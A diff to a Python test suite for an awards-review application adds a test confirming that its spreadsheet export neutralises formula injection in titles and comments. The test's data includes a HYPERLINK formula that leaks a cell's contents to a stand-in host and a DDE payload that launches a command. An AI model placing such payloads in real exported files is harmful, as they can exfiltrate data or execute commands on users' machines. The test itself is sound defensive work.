@@ -23,8 +23,9 @@ from awards.documents import (
     scores_filename,
 )
 from awards.enums import CouncilRole, Outcome
-from awards.models import ReviewRound, RoundEntry
+from awards.models import ReviewRound, RoundEntry, ScoreSheet
 from awards.services import CriterionData, conflict_declare, round_transition
+from initiatives.models import Initiative
 from tests.factories import UserFactory, unit_officer
 from tests.factories.awards import (
     accepted_dossier,
@@ -342,3 +343,23 @@ def test_scores_xlsx_lists_submitted_sheets_only(scored):
     values = {value for row in body for value in row}
     for draft in [29.75, 29.25, 39.5, 98.5, "Nháp chưa nộp"]:
         assert draft not in values
+
+
+def test_scores_xlsx_writes_hostile_titles_and_comments_as_text(scored):
+    hostile_title = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    hostile_comment = "=cmd|' /C calc'!A0"
+    Initiative.objects.filter(pk=scored.a.initiative_id).update(title=hostile_title)
+    ScoreSheet.objects.filter(entry=scored.a).update(overall_comment=hostile_comment)
+    book = workbook(scored)
+    summary = book[SUMMARY_SHEET]
+    title_cells = [row[TITLE] for row in summary.iter_rows(min_row=2)]
+    assert title_cells[0].value == "'" + hostile_title
+    assert title_cells[0].data_type == "s"
+    sheets = list(book[SHEETS_SHEET].iter_rows(min_row=2))
+    comments = [row[-2] for row in sheets if row[1].value == "'" + hostile_title]
+    assert len(comments) == 4
+    assert all(c.value == "'" + hostile_comment and c.data_type == "s" for c in comments)
+    assert not any(
+        cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row
+    )
+    assert summary.cell(row=2, column=RANK + 1).value == 1
